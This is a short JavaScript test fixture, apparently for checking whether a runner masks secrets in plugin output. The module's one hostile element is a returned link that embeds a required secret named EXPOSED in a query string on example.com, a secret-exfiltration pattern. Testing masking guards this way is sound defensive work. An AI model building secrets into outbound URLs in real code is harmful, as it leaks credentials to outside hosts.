// A value that the guest is given stands in a link.
// guard: what leaves a run is masked
// harm: loot
// control: no mask
// says: href holds secret EXPOSED
module.exports = {
  metadata: { name: 'given-in-link', cache: 0, requiredSecrets: ['EXPOSED'], match: { contextType: 'github', context: { 'page.attack': { equals: 'given-in-link' } } } },
  async run(context, secrets) {
    return { type: 'link', content: 'look', href: `https://example.com/?${secrets.EXPOSED}` };
  },
};
